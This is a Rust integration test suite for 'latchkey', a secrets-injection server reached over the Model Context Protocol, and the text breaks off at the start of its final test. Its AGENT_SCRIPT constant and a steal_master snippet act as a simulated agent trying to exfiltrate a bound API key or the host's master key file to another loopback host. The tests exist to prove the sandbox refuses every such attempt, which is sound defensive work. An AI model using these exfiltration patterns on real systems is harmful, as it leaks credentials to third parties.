//! The Model Context Protocol, driven by a client no one here wrote: the official Python
//! SDK (`mcp` on PyPI, installed by tests/setup/61-mcp-client.sh), over Streamable HTTP at
//! `/mcp` of a real `latchkey serve` and over stdio of `latchkey mcp`, both on 127.0.0.1.
//! A tool call makes an injected fetch to a loopback upstream: the upstream gets the key,
//! the client gets the scrubbed result, and nothing the client sees holds the value.
#![allow(clippy::unwrap_used)]

mod harness;

use harness::Cli;
use harness::server::{Server, store_with_admin};
use latchkey_tests::upstream::Upstream;
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Command, Stdio};

const SECRET: &str = "tok-mcp-4b8e1d6a9c2f7035";

fn python() -> PathBuf {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/test-tools/venv/bin/python");
    assert!(
        p.exists(),
        "{} is missing: run tests/setup/61-mcp-client.sh (tests/run.sh does)",
        p.display()
    );
    p
}

/// The client running `scenario` with `cfg`, written to a file (an argument list has a
/// bound that an oversized input would pass).
fn driver(scenario: &str, cfg: &Value) -> Command {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), cfg.to_string()).unwrap();
    let (_, path) = file.keep().unwrap();
    let mut c = Command::new(python());
    c.arg(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/mcp_client.py"))
        .arg(scenario)
        .arg(path);
    for (name, _) in std::env::vars_os() {
        if name.to_string_lossy().starts_with("LATCHKEY_") {
            c.env_remove(name);
        }
    }
    c
}

/// Runs a scenario of the Python client to its end: what it printed as JSON, or its
/// failure (status and stderr).
fn client(scenario: &str, cfg: &Value) -> Result<Value, String> {
    let out = driver(scenario, cfg).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    if !out.status.success() {
        return Err(format!("{}\n{stdout}\n{stderr}", out.status));
    }
    let last = stdout.lines().last().unwrap_or_default();
    serde_json::from_str(last).map_err(|e| format!("{e}: {stdout}\n{stderr}"))
}

fn token(s: &Server, admin: &str, name: &str, role: &str) -> String {
    let r = s.json(
        "POST",
        "/v1/tokens",
        admin,
        json!({"name": name, "role": role}),
    );
    assert_eq!(r.status(), StatusCode::CREATED);
    r.json::<Value>().unwrap()["token"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn register_probe(s: &Server, admin: &str) {
    let wasm = std::fs::read(latchkey_tests::guest("probe")).unwrap();
    let schema =
        r#"{"type":"object","required":["action"],"properties":{"action":{"type":"string"}}}"#;
    let q = |v: &str| {
        percent_encoding::utf8_percent_encode(v, percent_encoding::NON_ALPHANUMERIC).to_string()
    };
    let path = format!(
        "/v1/components?name=probe&description={}&input_schema={}",
        q("Reports what a step can see and do"),
        q(schema)
    );
    let r = s
        .req("POST", &path, Some(admin))
        .header("content-type", "application/wasm")
        .body(wasm)
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED, "{}", r.text().unwrap());
}

fn register_workflow(s: &Server, admin: &str, name: &str) {
    let manifest = format!(
        "name = \"{name}\"\ndescription = \"Echoes its input\"\n[input]\ntype = \"object\"\nproperties.action = {{ type = \"string\" }}\n[[step]]\nname = \"a\"\ncomponent = \"probe\"\n"
    );
    let r = s
        .req("PUT", &format!("/v1/workflows/{name}"), Some(admin))
        .body(manifest)
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().unwrap());
}

fn put_secret(s: &Server, admin: &str, up: &Upstream) {
    let r = s.json(
        "PUT",
        "/v1/secrets/TOKEN?scope=workspace:default",
        admin,
        json!({"value": SECRET, "binding": {"hosts": [format!("127.0.0.1:{}", up.port())], "inject": ["header:authorization"], "allow_http": true}}),
    );
    assert!(r.status().is_success(), "{}", r.text().unwrap());
}

/// A server with the probe component, a workflow `wf` and a key bound to `up`.
fn platform(up: &Upstream) -> (Cli, String, Server) {
    let (cli, admin) = store_with_admin();
    let s = Server::start(&cli, &[]);
    register_probe(&s, &admin);
    register_workflow(&s, &admin, "wf");
    put_secret(&s, &admin, up);
    (cli, admin, s)
}

fn http(s: &Server, token: &str) -> Value {
    json!({"url": format!("{}/mcp", s.url), "token": token})
}

fn tool_names(session: &Value) -> Vec<String> {
    let mut names: Vec<String> = session["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap().to_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn over_http_a_tool_call_uses_the_key_and_the_client_gets_the_scrubbed_result() {
    let up = Upstream::start_blocking().unwrap();
    let other = Upstream::start_blocking().unwrap();
    let (_cli, admin, s) = platform(&up);
    let runner = token(&s, &admin, "agent", "runner");
    let fetch = json!({"action": "fetch", "url": up.url("/echo"), "key": "TOKEN"});
    let elsewhere = json!({"action": "fetch", "url": other.url("/echo"), "key": "TOKEN"});
    let mut cfg = http(&s, &runner);
    cfg["calls"] = json!([["probe", fetch], ["probe", elsewhere], ["wf", {"action": "echo", "n": 7}], ["nope", {}]]);
    cfg["reads"] = json!(["latchkey://runs", "latchkey://secrets"]);
    let seen = client("session", &cfg).unwrap();

    // Tools: the registrations, described as registered.
    assert_eq!(tool_names(&seen), ["probe", "wf"], "{seen}");
    let probe = seen["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "probe")
        .unwrap();
    assert_eq!(probe["description"], "Reports what a step can see and do");
    assert_eq!(probe["schema"]["required"], json!(["action"]));
    let wf = seen["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "wf")
        .unwrap();
    assert_eq!(wf["description"], "Echoes its input");
    assert_eq!(wf["schema"]["properties"]["action"]["type"], "string");
    assert_eq!(seen["capabilities"]["tools"]["listChanged"], true, "{seen}");

    // The injected fetch: the upstream got the key, the client a scrubbed answer.
    let calls = seen["calls"].as_array().unwrap();
    assert_eq!(calls[0]["is_error"], false, "{seen}");
    let answer: Value = serde_json::from_str(calls[0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(answer["status"], 200, "{answer}");
    assert!(
        up.requests_to("/echo").iter().any(|r| r
            .header("authorization")
            .is_some_and(|h| h.contains(SECRET))),
        "the upstream did not get the key"
    );
    // Refused by the binding: a tool error in the guest's words; the other host got nothing.
    assert_eq!(calls[1]["is_error"], true, "{seen}");
    let refused = calls[1]["text"].as_str().unwrap();
    assert!(refused.contains("failed"), "{refused}");
    assert!(
        other.requests().iter().all(|r| !r.contains(SECRET)),
        "the key reached another host"
    );
    // A workflow's output is the tool's result, as JSON too.
    assert_eq!(calls[2]["is_error"], false, "{seen}");
    assert_eq!(calls[2]["structured"]["n"], 7, "{seen}");
    // An unknown tool is a JSON-RPC error.
    assert!(
        calls[3]["exception"].as_str().unwrap().contains("no tool"),
        "{seen}"
    );

    // A runner's resources: its runs, not the secrets' metadata.
    assert_eq!(seen["resources"], json!(["latchkey://runs"]), "{seen}");
    let reads = seen["reads"].as_array().unwrap();
    let runs: Value = serde_json::from_str(reads[0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(runs.as_array().unwrap().len(), 3, "{runs}");
    assert!(
        runs.as_array()
            .unwrap()
            .iter()
            .all(|r| r["user"] == "agent")
    );
    assert!(
        reads[1]["exception"]
            .as_str()
            .unwrap()
            .contains("runner role"),
        "{seen}"
    );

    let all = format!("{seen}{}", s.printed());
    assert!(
        !all.contains(SECRET),
        "the value reached the client or a log"
    );
}

/// A declared input schema is a promise to every caller: a tool call or a run whose input
/// does not match is refused before anything runs (no record, no step), saying where and
/// what; a schema that is not one, or that points at another document, is refused when it is
/// declared, and the host fetches nothing for it.
#[test]
fn a_declared_input_schema_is_kept_on_every_path_and_a_bad_one_is_refused() {
    let up = Upstream::start_blocking().unwrap();
    let (_cli, admin, s) = platform(&up);
    let runner = token(&s, &admin, "agent", "runner");
    let mut cfg = http(&s, &runner);
    cfg["calls"] = json!([["probe", {"action": 5}], ["probe", {}], ["wf", {"action": ["echo"]}]]);
    let seen = client("session", &cfg).unwrap();
    let calls = seen["calls"].as_array().unwrap();
    for (call, at) in calls.iter().zip(["at /action", "at /:", "at /action"]) {
        assert_eq!(call["is_error"], true, "{seen}");
        let text = call["text"].as_str().unwrap();
        assert!(
            text.contains("does not match the declared input schema") && text.contains(at),
            "{text}"
        );
    }
    let r = s.json(
        "POST",
        "/v1/runs",
        &admin,
        json!({"component": "probe", "input": {"action": 5}, "wait": true}),
    );
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let message = r.json::<Value>().unwrap()["message"].to_string();
    assert!(
        message.contains("at /action") && message.contains("string"),
        "{message}"
    );
    // Nothing ran: no run records, no request upstream.
    let runs: Value = s.get("/v1/runs", &admin).json().unwrap();
    assert_eq!(runs, json!([]), "{runs}");
    assert!(up.requests().is_empty());

    // Bad schemas are refused at registration and change nothing.
    let wasm = std::fs::read(latchkey_tests::guest("probe")).unwrap();
    let q = |v: &str| {
        percent_encoding::utf8_percent_encode(v, percent_encoding::NON_ALPHANUMERIC).to_string()
    };
    let elsewhere = Upstream::start_blocking().unwrap();
    for (schema, says) in [
        (r#"{"type":5}"#.to_owned(), "input_schema: "),
        (
            r#"{"type":"array"}"#.to_owned(),
            "\"type\" must be \"object\"",
        ),
        (
            format!(r#"{{"$ref":"{}"}}"#, elsewhere.url("/schema.json")),
            "input_schema: ",
        ),
    ] {
        let r = s
            .req(
                "POST",
                &format!("/v1/components?name=probe&input_schema={}", q(&schema)),
                Some(&admin),
            )
            .header("content-type", "application/wasm")
            .body(wasm.clone())
            .send()
            .unwrap();
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{schema}");
        let message = r.json::<Value>().unwrap()["message"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(message.contains(says), "{schema}: {message}");
    }
    assert!(
        elsewhere.requests().is_empty(),
        "declaring a schema made the host fetch its reference"
    );
    let r = s
        .req("PUT", "/v1/workflows/wf", Some(&admin))
        .body("name = \"wf\"\n[input]\ntype = \"string\"\n[[step]]\nname = \"a\"\ncomponent = \"probe\"\n")
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let message = r.json::<Value>().unwrap()["message"].to_string();
    assert!(message.contains("[input]: "), "{message}");
    // The registrations are as they were: the good input still runs.
    for body in [
        json!({"component": "probe", "input": {"action": "echo"}, "wait": true}),
        json!({"workflow": "wf", "input": {"action": "echo"}, "wait": true}),
    ] {
        let r = s.json("POST", "/v1/runs", &admin, body);
        let run: Value = r.json().unwrap();
        assert_eq!(run["status"], "succeeded", "{run}");
    }
}

#[test]
fn a_runner_sees_the_tools_a_runner_may_run_and_a_member_the_secrets_metadata() {
    let up = Upstream::start_blocking().unwrap();
    let (_cli, admin, s) = platform(&up);
    // A component named like a workflow stays reachable under a name of its own.
    let wasm = std::fs::read(latchkey_tests::guest("probe")).unwrap();
    let r = s
        .req("POST", "/v1/components?name=wf", Some(&admin))
        .header("content-type", "application/wasm")
        .body(wasm)
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let runner = token(&s, &admin, "ci", "runner");
    let member = token(&s, &admin, "bob", "member");
    let as_runner = client("session", &http(&s, &runner)).unwrap();
    // What the API says a runner may run: the same names.
    let components: Value = s.get("/v1/components", &runner).json().unwrap();
    let workflows: Value = s.get("/v1/workflows", &runner).json().unwrap();
    assert_eq!(components.as_array().unwrap().len(), 2, "{components}");
    assert_eq!(workflows.as_array().unwrap().len(), 1, "{workflows}");
    assert_eq!(
        tool_names(&as_runner),
        ["component.wf", "probe", "wf"],
        "{as_runner}"
    );
    let mut cfg = http(&s, &member);
    cfg["calls"] = json!([["component.wf", {"action": "echo", "who": "component"}]]);
    cfg["reads"] = json!(["latchkey://secrets"]);
    let as_member = client("session", &cfg).unwrap();
    assert_eq!(
        as_member["resources"],
        json!(["latchkey://runs", "latchkey://secrets"])
    );
    assert_eq!(as_member["calls"][0]["structured"]["who"], "component");
    let text = as_member["reads"][0]["text"].as_str().unwrap();
    let listed: Value = serde_json::from_str(text).unwrap();
    assert_eq!(listed[0]["key"], "TOKEN", "{listed}");
    assert!(!text.contains(SECRET));
}

#[test]
fn a_bad_token_is_refused_with_401_and_the_client_does_not_connect() {
    let up = Upstream::start_blocking().unwrap();
    let (_cli, _admin, s) = platform(&up);
    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "0"}}});
    for token in [
        None,
        Some("lk_nope"),
        Some(&*format!("lk_{}", "A".repeat(43))),
    ] {
        let r = s
            .req("POST", "/mcp", token)
            .header("accept", "application/json, text/event-stream")
            .json(&init)
            .send()
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "{token:?}");
        assert_eq!(r.headers()["www-authenticate"], "Bearer");
    }
    // The SDK does not connect: it reports the refused initialize as an error response
    // (the 401 itself is checked above).
    let refused = client("session", &http(&s, "lk_nope")).unwrap_err();
    assert!(
        refused.contains("MCPError: Server returned an error response"),
        "{refused}"
    );
}

/// A session of the Python client on `cfg`'s server, told of changes: the tools it listed,
/// whether `tools/list_changed` arrived after `change` ran, and the tools it listed then.
fn tools_around(cfg: &Value, change: impl FnOnce()) -> Value {
    let mut child = driver("list_changed", cfg)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "ready", "{line}");
    change();
    line.clear();
    out.read_line(&mut line).unwrap();
    let status = child.wait().unwrap();
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert!(status.success(), "{line}\n{err}");
    let seen: Value = serde_json::from_str(line.trim()).unwrap();
    assert_eq!(seen["notified"], true, "{seen}\n{err}");
    seen
}

#[test]
fn list_changed_arrives_after_a_registration() {
    let up = Upstream::start_blocking().unwrap();
    let (_cli, admin, s) = platform(&up);
    let runner = token(&s, &admin, "agent", "runner");
    let mut cfg = http(&s, &runner);
    cfg["wait_s"] = json!(60);
    let seen = tools_around(&cfg, || register_workflow(&s, &admin, "later"));
    assert_eq!(seen["before"], json!(["wf", "probe"]), "{seen}");
    assert_eq!(seen["after"], json!(["later", "wf", "probe"]), "{seen}");
}

/// Two hosts of one PostgreSQL store: a session on B is told when a workflow is registered
/// through A (at B's next sweep, a third of the run lease), and lists it.
#[test]
fn list_changed_reaches_sessions_on_another_host_of_a_shared_store() {
    let pg = harness::postgres::Postgres::start();
    let (cli, admin) = pg.store_with_admin("mcp_hosts");
    let other = cli.another_host();
    let a = Server::start(&cli, &["--run-lease-secs", "1"]);
    let b = Server::start(&other, &["--run-lease-secs", "1"]);
    register_probe(&a, &admin);
    let runner = token(&a, &admin, "agent", "runner");
    let mut cfg = http(&b, &runner);
    cfg["wait_s"] = json!(30);
    let seen = tools_around(&cfg, || register_workflow(&a, &admin, "later"));
    assert_eq!(seen["before"], json!(["probe"]), "{seen}");
    assert_eq!(seen["after"], json!(["later", "probe"]), "{seen}");
}

#[test]
fn malformed_and_oversized_requests_get_precise_errors_and_the_server_stays_up() {
    let up = Upstream::start_blocking().unwrap();
    let (_cli, admin, s) = platform(&up);
    let post = |body: Vec<u8>| {
        s.req("POST", "/mcp", Some(&admin))
            .header("accept", "application/json, text/event-stream")
            .header("content-type", "application/json")
            .body(body)
            .send()
            .unwrap()
    };
    // initialize answers with the server's capabilities.
    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "0"}}});
    let r = post(init.to_string().into_bytes());
    assert_eq!(r.status(), StatusCode::OK);
    let text = r.text().unwrap();
    assert!(text.contains("\"listChanged\":true"), "{text}");
    assert!(text.contains("\"name\":\"latchkey\""), "{text}");
    // Not JSON, not JSON-RPC: errors, not a crash.
    for bad in [
        &b"{not json"[..],
        b"[]",
        b"{\"jsonrpc\":\"2.0\"}",
        b"\xff\xfe",
    ] {
        let r = post(bad.to_vec());
        let status = r.status();
        let text = r.text().unwrap();
        assert!(status.is_client_error(), "{status} for {bad:?}: {text}");
        assert!(
            text.contains("\"jsonrpc\"") || text.contains("error") || text.contains("rror"),
            "{status} for {bad:?}: {text}"
        );
    }
    // A body far over the limit: 413 before anything is parsed.
    let huge = format!(
        "{{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{{\"name\":\"probe\",\"arguments\":{{\"x\":\"{}\"}}}}}}",
        "a".repeat(2 << 20)
    );
    assert_eq!(
        post(huge.into_bytes()).status(),
        StatusCode::PAYLOAD_TOO_LARGE
    );
    // An input just over the JSON limit (256 KiB): a tool error that names the limit.
    let mut cfg = http(&s, &admin);
    cfg["calls"] = json!([["probe", {"action": "echo", "pad": "a".repeat(270 << 10)}], ["probe", {"action": "echo"}]]);
    let seen = client("session", &cfg).unwrap();
    assert_eq!(seen["calls"][0]["is_error"], true, "{seen}");
    assert!(
        seen["calls"][0]["text"]
            .as_str()
            .unwrap()
            .contains("at most 262144 bytes"),
        "{seen}"
    );
    // And the server is still up, and serving tools.
    assert_eq!(seen["calls"][1]["is_error"], false, "{seen}");
    assert_eq!(
        s.req("GET", "/healthz", None).send().unwrap().status(),
        StatusCode::OK
    );
}

#[test]
fn over_stdio_latchkey_mcp_runs_tools_as_the_acting_principal() {
    let up = Upstream::start_blocking().unwrap();
    let (cli, _admin, s) = platform(&up);
    // A sled store is one process's: the server lets go of it first, stopping as an
    // operator stops it (SIGTERM: it drains and flushes the store).
    let mut s = s;
    let term = Command::new("kill")
        .args(["-TERM", &s.child.id().to_string()])
        .status()
        .unwrap();
    assert!(term.success());
    assert!(s.child.wait().unwrap().success(), "{}", s.printed());
    let bin = env!("CARGO_BIN_EXE_latchkey");
    let store = cli.path("store");
    let key = cli.path("master.key");
    let args = |role: &str| {
        json!([
            "--store",
            store,
            "--master-key-file",
            key,
            "mcp",
            "--as",
            "desk",
            "--role",
            role,
            "--allow-private-network",
            "--no-cache"
        ])
    };
    let fetch = json!({"action": "fetch", "url": up.url("/echo"), "key": "TOKEN"});
    let cfg = json!({"command": bin, "args": args("runner"), "calls": [["probe", fetch]], "reads": ["latchkey://runs"]});
    let seen = client("session", &cfg).unwrap();
    assert_eq!(tool_names(&seen), ["probe", "wf"], "{seen}");
    assert_eq!(seen["calls"][0]["is_error"], false, "{seen}");
    let answer: Value = serde_json::from_str(seen["calls"][0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(answer["status"], 200, "{answer}");
    assert!(up.requests_to("/echo").iter().any(|r| {
        r.header("authorization")
            .is_some_and(|h| h.contains(SECRET))
    }));
    assert_eq!(seen["resources"], json!(["latchkey://runs"]), "{seen}");
    let runs: Value = serde_json::from_str(seen["reads"][0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(runs[0]["user"], "desk", "{runs}");
    assert!(!seen.to_string().contains(SECRET));
    // A member sees the secrets' metadata too.
    let cfg = json!({"command": bin, "args": args("member")});
    let seen = client("session", &cfg).unwrap();
    assert_eq!(
        seen["resources"],
        json!(["latchkey://runs", "latchkey://secrets"]),
        "{seen}"
    );
}

/// Sessions are bounded: each open one holds a server and its tasks on the host until it
/// ends or idles out, so a client opening sessions in a loop would grow the host's memory
/// without bound. Past `--max-mcp-sessions` a new session is refused (503, naming the
/// limit); closing one makes room, and the rest of the server is untouched.
#[test]
fn mcp_sessions_are_bounded_and_a_closed_one_makes_room() {
    let up = Upstream::start_blocking().unwrap();
    let (cli, admin) = store_with_admin();
    let s = Server::start(&cli, &["--max-mcp-sessions", "2"]);
    register_probe(&s, &admin);
    put_secret(&s, &admin, &up);
    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "0"}}});
    let open = || {
        s.req("POST", "/mcp", Some(&admin))
            .header("accept", "application/json, text/event-stream")
            .header("content-type", "application/json")
            .body(init.to_string())
            .send()
            .unwrap()
    };
    let mut ids = Vec::new();
    for _ in 0..2 {
        let r = open();
        assert_eq!(r.status(), StatusCode::OK);
        let id = r.headers()["mcp-session-id"].to_str().unwrap().to_owned();
        ids.push(id);
    }
    let r = open();
    assert_eq!(r.status(), StatusCode::SERVICE_UNAVAILABLE);
    let text = r.text().unwrap();
    assert!(
        text.contains("--max-mcp-sessions") && text.contains('2'),
        "{text}"
    );
    // The API and the sessions already open still answer.
    assert_eq!(
        s.req("GET", "/healthz", None).send().unwrap().status(),
        StatusCode::OK
    );
    // A client that ends its session makes room for another.
    let r = s
        .req("DELETE", "/mcp", Some(&admin))
        .header("mcp-session-id", &ids[0])
        .send()
        .unwrap();
    assert!(r.status().is_success(), "{}", r.status());
    let mut opened = false;
    for _ in 0..50 {
        if open().status() == StatusCode::OK {
            opened = true;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert!(opened, "a closed session did not make room");
}

/// An agent's script trying every way out for the key it may use: `use` sends it where it
/// is bound (and shows what came back), the others try to return it, log it, send it to
/// another host (as a header, in a body, in a URL), put it in the bound host's URL, and
/// relay what the bound host echoed to another host.
const AGENT_SCRIPT: &str = r#"
import { step, credential, fetch, log, Request } from 'latchkey-sdk';

export const run = step(async (input: any) => {
  const key = credential('TOKEN');
  const attempt = async (f: () => Promise<any>) => {
    try { return await f(); } catch (e) { return { refused: String(e) }; }
  };
  switch (input.action) {
    case 'use': {
      const r = await fetch(input.url, { headers: { authorization: ['Bearer ', key] } });
      return { status: r.status, body: r.text() };
    }
    case 'return':
      return {
        string: String(key), template: `${key}`, json: JSON.stringify(key), plain: key,
        own: Object.getOwnPropertyNames(key).map((n) => String((key as any)[n])),
      };
    case 'log':
      console.log('the key is', key, String(key));
      log.error('and again', JSON.stringify({ key }));
      return { logged: true };
    case 'elsewhere':
      return {
        header: await attempt(() => fetch(input.other, { headers: { authorization: ['Bearer ', key] } })),
        body: await attempt(async () => Request.post(input.other).body(['token=', key]).send()),
        url: await attempt(async () => Request.get(input.other).query('token', key).send()),
        bound_url: await attempt(async () => Request.get(input.url).query('token', key).send()),
      };
    case 'relay': {
      const echoed = (await fetch(input.url, { headers: { authorization: ['Bearer ', key] } })).text();
      const sent = await fetch(input.other, { method: 'POST', body: echoed });
      return { relayed: sent.status, echoed };
    }
  }
  return { unknown: input.action };
});
"#;

fn js_sdk() -> PathBuf {
    let sdk = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../guest-sdk/js");
    assert!(
        sdk.join("node_modules/@bytecodealliance/componentize-js")
            .is_dir(),
        "the JavaScript toolchain is missing: run tests/setup/40-js.sh (tests/run.sh does)"
    );
    sdk
}

fn script_policy(
    s: &Server,
    token: &str,
    enabled: bool,
    keys: &[&str],
) -> reqwest::blocking::Response {
    s.json(
        "PUT",
        "/v1/scripts",
        token,
        json!({"enabled": enabled, "max_keys": keys}),
    )
}

#[test]
fn an_agent_written_script_uses_the_key_and_no_way_out_reaches_the_agent_or_another_host() {
    let up = Upstream::start_blocking().unwrap();
    let other = Upstream::start_blocking().unwrap();
    let (cli, admin) = store_with_admin();
    let sdk = js_sdk();
    let s = Server::start(&cli, &["--script-sdk", sdk.to_str().unwrap()]);
    put_secret(&s, &admin, &up);
    let runner = token(&s, &admin, "agent", "runner");

    // Off by default: no tool, and the policy says so.
    let off = client("session", &http(&s, &runner)).unwrap();
    assert!(tool_names(&off).is_empty(), "{off}");
    let policy: Value = s.get("/v1/scripts", &runner).json().unwrap();
    assert_eq!(policy, json!({"enabled": false, "max_keys": []}));
    // Only an admin turns them on; bad keys and unknown fields are refused, nothing stored.
    assert_eq!(
        script_policy(&s, &runner, true, &["TOKEN"]).status(),
        StatusCode::FORBIDDEN
    );
    let bad = script_policy(&s, &admin, true, &["TOKEN", "no spaces"]);
    assert_eq!(bad.status(), StatusCode::BAD_REQUEST);
    assert!(bad.text().unwrap().contains("max_keys"));
    let unknown = s.json(
        "PUT",
        "/v1/scripts",
        &admin,
        json!({"enabled": true, "max_keys": [], "keys": ["TOKEN"]}),
    );
    assert_eq!(unknown.status(), StatusCode::BAD_REQUEST);
    assert_eq!(
        s.get("/v1/scripts", &runner).json::<Value>().unwrap()["enabled"],
        false
    );
    let on = script_policy(&s, &admin, true, &["TOKEN", "TOKEN"]);
    assert_eq!(on.status(), StatusCode::OK);
    assert_eq!(on.json::<Value>().unwrap()["max_keys"], json!(["TOKEN"]));

    let call = |action: &str| {
        json!(["run_script", {"source": AGENT_SCRIPT, "keys": ["TOKEN"], "input": {
            "action": action, "url": up.url("/echo"), "other": other.url("/echo"),
        }}])
    };
    let master_file = [cli.path("master.key"), cli.path(".latchkey/master.key")]
        .into_iter()
        .find(|p| p.exists())
        .unwrap();
    let master = std::fs::read_to_string(&master_file).unwrap();
    let steal_master = format!(
        "import {{ step }} from 'latchkey-sdk';\nimport m from {:?} with {{ type: 'text' }};\nexport const run = step(() => ({{ m }}));\n",
        master_file.to_str().unwrap()
    );
    let mut cfg = http(&s, &runner);
    cfg["timeout_s"] = json!(600);
    cfg["calls"] = json!([
        call("use"),
        call("return"),
        call("log"),
        call("elsewhere"),
        call("relay"),
        // A key the admin did not allow.
        ["run_script", {"source": AGENT_SCRIPT, "keys": ["OTHER"], "input": {}}],
        // The build bundles nothing from the host's disk.
        ["run_script", {"source": steal_master, "keys": [], "input": {}}],
        ["run_script", {"source": AGENT_SCRIPT, "key": "TOKEN"}],
    ]);
    let seen = client("session", &cfg).unwrap();
    assert_eq!(tool_names(&seen), ["run_script"], "{seen}");
    let tool = &seen["tools"][0];
    assert_eq!(
        tool["schema"]["properties"]["keys"]["items"]["enum"],
        json!(["TOKEN"])
    );
    let calls = seen["calls"].as_array().unwrap();
    let structured = |i: usize| -> &Value {
        assert_eq!(calls[i]["is_error"], false, "call {i}: {seen}");
        &calls[i]["structured"]
    };

    // Used where it is bound: the upstream got it, the script saw it scrubbed.
    assert_eq!(structured(0)["status"], 200, "{seen}");
    assert!(
        structured(0)["body"]
            .as_str()
            .unwrap()
            .contains("[REDACTED]"),
        "{seen}"
    );
    assert!(
        up.requests_to("/echo").iter().any(|r| r
            .header("authorization")
            .is_some_and(|h| h == format!("Bearer {SECRET}"))),
        "the bound upstream did not get the key"
    );
    // Returned, logged: only handles.
    assert!(
        structured(1)["string"].as_str().unwrap().contains("TOKEN"),
        "{seen}"
    );
    assert_eq!(structured(2)["logged"], true, "{seen}");
    // Every other way out refused by the binding.
    let elsewhere = structured(3);
    for way in ["header", "body", "url", "bound_url"] {
        assert!(
            elsewhere[way]["refused"]
                .as_str()
                .is_some_and(|r| r.contains("denied")),
            "{way}: {elsewhere}"
        );
    }
    // What the bound host echoed went on to another host scrubbed.
    assert_eq!(structured(4)["relayed"], 200, "{seen}");
    assert!(
        !other.requests().is_empty(),
        "the relay did not reach the other host"
    );
    assert!(
        other.requests().iter().all(|r| !r.contains(SECRET)),
        "the key reached another host"
    );
    // A key outside the admin's list: refused, saying how to allow it.
    let not_allowed = calls[5]["text"].as_str().unwrap();
    assert_eq!(calls[5]["is_error"], true, "{seen}");
    assert!(
        not_allowed.contains("OTHER") && not_allowed.contains("latchkey scripts enable"),
        "{not_allowed}"
    );
    // The master key file stays on the host.
    assert_eq!(calls[6]["is_error"], true, "{seen}");
    let refused_import = calls[6]["text"].as_str().unwrap();
    assert!(
        refused_import.contains("only latchkey-sdk may be imported"),
        "{refused_import}"
    );
    // Unknown arguments are named.
    assert!(
        calls[7]["text"]
            .as_str()
            .unwrap()
            .contains("unknown field `key`"),
        "{seen}"
    );

    // The runs are the agent's, recorded like any other; the refusals are in the audit trail.
    let runs: Value = s.get("/v1/runs", &admin).json().unwrap();
    let scripts: Vec<&Value> = runs
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["target"].as_str().unwrap().starts_with("script:"))
        .collect();
    // use, return, log, elsewhere, relay: the refused calls never started a run.
    assert_eq!(scripts.len(), 5, "{runs}");
    assert!(scripts.iter().all(|r| r["user"] == "agent"));
    let audit: Value = s.get("/v1/audit?key=TOKEN", &admin).json().unwrap();
    let denied = audit["records"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["event"] == "inject-denied")
        .count();
    assert!(denied >= 3, "{audit}");

    let all = format!("{seen}{}{audit}{runs}", s.printed());
    assert!(
        !all.contains(SECRET),
        "the value reached the client or a log"
    );
    assert!(!all.contains(master.trim()), "the master key left the host");
}

#[test]
fn run_script_is_refused_with_how_to_fix_it_where_the_toolchain_is_missing() {
    let up = Upstream::start_blocking().unwrap();
    let (_cli, admin, s) = platform(&up);
    assert_eq!(
        script_policy(&s, &admin, true, &[]).status(),
        StatusCode::OK
    );
    let runner = token(&s, &admin, "agent", "runner");
    let mut cfg = http(&s, &runner);
    cfg["calls"] = json!([["run_script", {"source": "export const run = 1;", "input": {}}]]);
    let seen = client("session", &cfg).unwrap();
    assert_eq!(tool_names(&seen), ["probe", "run_script", "wf"], "{seen}");
    assert_eq!(seen["calls"][0]["is_error"], true, "{seen}");
    let text = seen["calls"][0]["text"].as_str().unwrap();
    assert!(text.contains("--script-sdk"), "{text}");
}

/// Processes whose command line names a path under `dir`.
fn processes_under(dir: &std::path::Path) -> Vec<String> {
    let dir = dir.to_str().unwrap();
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| std::fs::read(e.ok()?.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains(dir))
        .collect()
}

#[test]
fn a_build_over_its_time_limit_is_killed_with_everything_it_started() {
    let (cli, admin) = store_with_admin();
    let sdk = js_sdk();
